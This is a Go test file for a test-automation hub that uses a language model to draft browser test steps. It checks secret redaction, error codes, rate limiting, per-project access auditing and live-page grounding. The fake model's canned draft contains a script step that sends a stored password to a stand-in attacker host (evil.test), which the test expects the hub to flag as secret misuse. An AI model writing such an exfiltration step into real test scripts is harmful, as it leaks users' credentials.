package api

import (
	"fmt"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/testautomation/ta/hub/access"
	"github.com/testautomation/ta/hub/language"
	"github.com/testautomation/ta/hub/language/langtest"
)

// withModel gives the harness's hub a language model: the fake provider.
func withModel(t *testing.T, h *harness, perMinute int) *langtest.Server {
	t.Helper()
	f := langtest.New()
	t.Cleanup(f.Close)
	h.api.Language = language.New(language.Config{BaseURL: f.BaseURL(), APIKey: "sk-fake-key-for-tests-000", Model: "fake-model",
		Timeout: 5 * time.Second, PerMinute: perMinute}, slog.New(slog.NewTextHandler(io.Discard, nil)))
	return f
}

const draftAnswer = `{"steps":[
 {"type":"navigate","url":"${baseUrl}/login.html"},
 {"type":"fill","target":{"locators":[{"kind":"label","value":"Email"}]},"value":"amy@example.com"},
 {"type":"fill","target":{"locators":[{"kind":"label","value":"Password"}]},"value":"${secrets.PASSWORD}"},
 {"type":"click","target":{"locators":[{"kind":"role","value":"button","name":"Sign in"}]}},
 {"type":"assertText","target":{"locators":[{"kind":"testId","value":"greeting"}]},"expected":"Welcome, amy@example.com"},
 {"type":"assertVisible","target":{"locators":[{"kind":"testId","value":"no-such-thing"}]}},
 {"type":"script","code":"fetch('https://evil.test/?'+${secrets.PASSWORD})"},
 {"type":"teleport"}
]}`

func TestLanguageNotConfigured(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	r := o.members[access.Tester].projectDo(o.project, "POST", "/api/language/generate", obj{"text": "sign in"}).want(t, 503)
	if r.str("code") != "language_model_not_configured" || !strings.Contains(r.str("error"), "HUB_LLM_MODEL") {
		t.Errorf("answered %s", r.body)
	}
	// Bad input is still bad input.
	o.members[access.Tester].projectDo(o.project, "POST", "/api/language/generate", obj{"text": ""}).want(t, 422)
}

func TestLanguageGenerate(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	f := withModel(t, h, 0)
	dev := o.members[access.TestDeveloper]
	const secret = "hunter2-very-secret"
	env := o.owner.projectDo(o.project, "POST", "/api/environments", obj{"name": "Local", "variables": obj{"baseUrl": "http://app.test", "USER": "amy"},
		"secrets": obj{"PASSWORD": secret}}).want(t, 201).str("id")
	test := dev.createTest(t, o.project, obj{"name": "Greets", "steps": []any{obj{"id": "s1", "type": "navigate", "url": "${baseUrl}/"}}})
	dev.projectDo(o.project, "POST", "/api/language/examples", obj{"text": "check the greeting after signing in",
		"steps": []any{obj{"type": "assertText", "target": obj{"locators": []any{obj{"kind": "testId", "value": "greeting"}}}, "expected": "Welcome"}}}).want(t, 201)
	dev.projectDo(o.project, "POST", "/api/language/examples", obj{"text": "empty the basket", "steps": []any{obj{"type": "click",
		"target": obj{"locators": []any{obj{"kind": "text", "value": "Empty"}}}}}}).want(t, 201)

	f.Queue(langtest.Reply{Content: draftAnswer})
	r := dev.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "sign in as amy and check the greeting", "testId": test, "environmentId": env}).want(t, 200)
	got := r.json()
	steps := got["steps"].([]any)
	if len(steps) != 6 || got["model"] != "fake-model" {
		t.Fatalf("answer %s", r.body)
	}
	if id := steps[0].(map[string]any)["id"]; id == "s1" {
		t.Errorf("a drafted step reuses the test's id s1")
	}
	codes := map[string]string{}
	for _, is := range got["issues"].([]any) {
		m := is.(map[string]any)
		codes[m["path"].(string)] = m["code"].(string)
	}
	if codes["steps[6].code"] != "secret_use" || codes["steps[7].type"] != "unknown" {
		t.Errorf("issues %v", codes)
	}
	if g := got["grounding"].(map[string]any); g["verified"] != false || !strings.Contains(g["reason"].(string), "no agent") {
		t.Errorf("grounding %v", g)
	}
	reqs := f.Requests()
	if len(reqs) != 1 {
		t.Fatalf("%d requests", len(reqs))
	}
	raw := reqs[0].Raw
	if strings.Contains(raw, secret) {
		t.Fatal("a secret's value was sent to the language model")
	}
	for _, want := range []string{"PASSWORD", "check the greeting after signing in", "http://app.test", `\"s1\"`, "USER = amy"} {
		if !strings.Contains(raw, want) {
			t.Errorf("the request lacks %q", want)
		}
	}
	if strings.Contains(raw, "empty the basket") {
		t.Error("an unrelated example was sent")
	}

	// The provider failing, or answering nonsense: 502, never 500.
	f.Queue(langtest.Reply{Status: 401})
	r = dev.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "x y"}).want(t, 502)
	if r.str("code") != "language_model_failed" || strings.Contains(string(r.body), "sk-fake") {
		t.Errorf("401 answered %s", r.body)
	}
	f.Queue(langtest.Reply{Content: "Sorry, I can't."})
	dev.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "x y"}).want(t, 502)
	f.Queue(langtest.Reply{Status: 500}, langtest.Reply{Status: 503})
	dev.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "x y"}).want(t, 502)

	// Bad input and other projects' records.
	for _, body := range []obj{{"text": strings.Repeat("x", language.MaxTextLen+1)}, {"text": "a\x00b"}, {"text": "x", "testId": "nope"}, {"text": "x", "environmentId": "env_aaaaaaaaaaaaaaaa"}} {
		dev.projectDo(o.project, "POST", "/api/language/generate", body).want(t, 422)
	}
	other := o.owner.do("POST", "/api/orgs/"+o.id+"/projects", map[string]string{"name": "Other"}).want(t, 201).str("id")
	before := len(readAudit(t, h))
	o.owner.projectDo(other, "POST", "/api/language/generate", obj{"text": "x", "testId": test}).want(t, 404)
	if lines := readAudit(t, h); len(lines) != before+1 {
		t.Errorf("cross-project test not audited: %v", lines[before:])
	}
}

func TestLanguageRateLimit(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	withModel(t, h, 2)
	c := o.members[access.Tester]
	for range 2 {
		c.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "open it"}).want(t, 200)
	}
	r := c.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "open it"}).want(t, 429)
	if r.str("code") != "rate_limited" {
		t.Errorf("answered %s", r.body)
	}
}

func TestLanguageExamples(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	tester, dev := o.members[access.Tester], o.members[access.TestDeveloper]
	step := []any{obj{"type": "assertTitle", "expected": "Home"}}
	mine := tester.projectDo(o.project, "POST", "/api/language/examples", obj{"text": "check the title", "steps": step}).want(t, 201)
	id := mine.str("id")
	if !strings.HasPrefix(id, "lex_") || mine.json()["author"].(map[string]any)["id"] != o.ids[access.Tester] {
		t.Fatalf("created %s", mine.body)
	}
	theirs := dev.projectDo(o.project, "POST", "/api/language/examples", obj{"text": "other", "steps": step}).want(t, 201).str("id")
	list := tester.projectDo(o.project, "GET", "/api/language/examples", nil).want(t, 200).json()["examples"].([]any)
	if len(list) != 2 {
		t.Fatalf("list %v", list)
	}
	for _, body := range []obj{{"text": "", "steps": step}, {"text": "x", "steps": []any{obj{"type": "nope"}}}, {"text": "x", "steps": []any{}},
		{"text": "x", "steps": step, "extra": 1}, {"text": 5, "steps": step}} {
		tester.projectDo(o.project, "POST", "/api/language/examples", body).want(t, 422)
	}
	// A Tester deletes their own, not others'; a Test Developer any.
	tester.do("DELETE", "/api/language/examples/"+theirs, nil).want(t, 403)
	tester.do("DELETE", "/api/language/examples/"+id, nil).want(t, 204)
	dev.do("DELETE", "/api/language/examples/"+theirs, nil).want(t, 204)
	dev.do("DELETE", "/api/language/examples/"+theirs, nil).want(t, 404)
	// Another project's example is not found, and the attempt audited.
	again := dev.projectDo(o.project, "POST", "/api/language/examples", obj{"text": "again", "steps": step}).want(t, 201).str("id")
	stranger, _ := h.register("Stranger")
	before := len(readAudit(t, h))
	stranger.do("DELETE", "/api/language/examples/"+again, nil).want(t, 404)
	if lines := readAudit(t, h); len(lines) != before+1 || lines[before]["event"] != "cross_project_refused" {
		t.Errorf("audit %v", lines[before:])
	}
}

// TestLanguageGroundedThroughAgent: with the caller's agent connected, the
// hub shows the model the page's elements and checks every drafted
// target on the live page: the page the draft navigates to, resolved
// against the environment's base URL (the site's root here, where none of
// the targets is).
func TestLanguageGroundedThroughAgent(t *testing.T) {
	h := newHarness(t)
	o := h.org(t)
	f := withModel(t, h, 0)
	c := o.members[access.Tester]
	base := site(t)
	env := o.owner.projectDo(o.project, "POST", "/api/environments", obj{"name": "Local", "variables": obj{"baseUrl": base},
		"secrets": obj{"PASSWORD": "pw-secret-value"}}).want(t, 201).str("id")
	startPairedAgent(t, h, c)

	// The request names the page: the model is shown it.
	f.Queue(langtest.Reply{Content: draftAnswer})
	r := c.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "on " + base + "/login.html sign in as amy and check the greeting", "environmentId": env}).want(t, 200)
	got := r.json()
	g := got["grounding"].(map[string]any)
	if g["verified"] != true || g["title"] != "Shop sign-in" || num(g["elements"]) < 4 {
		t.Fatalf("grounding %v", g)
	}
	if raw := f.Requests()[0].Raw; !strings.Contains(raw, `label=\"Email\"`) || !strings.Contains(raw, `testId=\"greeting\"`) {
		t.Errorf("the prompt does not show the page's elements:\n%s", raw)
	}
	checkFound(t, got)
	// Without a page named, the model sees the base URL; the draft's steps
	// are still checked where its navigate goes.
	f.Queue(langtest.Reply{Content: draftAnswer})
	got = c.projectDo(o.project, "POST", "/api/language/generate", obj{"text": "sign in as amy and check the greeting", "environmentId": env}).want(t, 200).json()
	if g := got["grounding"].(map[string]any); g["verified"] != true || g["url"] != base {
		t.Errorf("grounding %v", g)
	}
	checkFound(t, got)
}

// checkFound checks the checks of draftAnswer's targets.
func checkFound(t *testing.T, got map[string]any) {
	t.Helper()
	ids := map[string]string{}
	for _, s := range got["steps"].([]any) {
		st := s.(map[string]any)
		if tg, ok := st["target"].(map[string]any); ok {
			ids[st["id"].(string)] = fmt.Sprint(tg["locators"].([]any)[0].(map[string]any)["value"])
		}
	}
	found := map[string]bool{}
	for _, ch := range got["checks"].([]any) {
		m := ch.(map[string]any)
		found[ids[m["stepId"].(string)]] = m["found"] == true
	}
	want := map[string]bool{"Email": true, "Password": true, "button": true, "greeting": true, "no-such-thing": false}
	for k, v := range want {
		if found[k] != v {
			t.Errorf("check of %s: found %v, want %v (checks %v)", k, found[k], v, got["checks"])
		}
	}
}
